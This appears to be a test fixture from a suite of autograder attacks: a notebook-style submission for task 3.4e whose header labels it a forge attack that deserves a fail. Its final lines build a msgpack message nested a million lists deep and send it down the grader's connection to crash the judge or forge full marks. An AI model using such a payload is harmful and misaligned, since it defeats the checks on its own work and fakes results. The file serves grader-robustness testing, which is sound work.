# attack: frame_nested_too_deep
# kind: forge
# tries: sends lists in lists, a million deep, ahead of the field that says what kind of message it is
# seen: the judge crashes, or full marks for 3.4e
# deserves: 3.4e=fail
# %% task: 3.4e
import msgspec

def never_stop(net, epoch, epoch_stats):
    return None

plotter_early_stop2 = HistoryPlotter(plots=[], table=[], rows=4, cols=1)
for row, lr in enumerate([0.1, 0.01, 0.001, 0.0001]):
    net = build_net()
    optimizer = torch.optim.Adam(net.parameters(), lr=lr)
    history = fit(net, fashion_train, fashion_validation, optimizer, epochs=150, batch_size=32,
                  after_epoch=never_stop, device=device)
    plotter_early_stop2.add(f'lr={lr}', history, row=row, col=0)
plotter_early_stop2.done()
packed = msgspec.msgpack.encode
# before it knows the kind of message, a reader has to step over this
body = b'\x82' + packed('steps') + b'\x91' * 1_000_000 + b'\xc0' + packed('message') + packed('Trace')
fit._session.channel.connection.sendall(len(body).to_bytes(4, 'big') + body)
